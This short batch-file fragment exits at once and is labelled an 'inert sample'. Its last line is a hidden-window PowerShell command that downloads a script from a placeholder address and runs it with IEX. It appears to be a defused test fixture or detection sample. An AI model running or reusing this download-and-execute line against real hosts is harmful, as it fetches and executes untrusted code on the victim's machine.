exit /b
rem inert sample
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.40/a.ps1')"
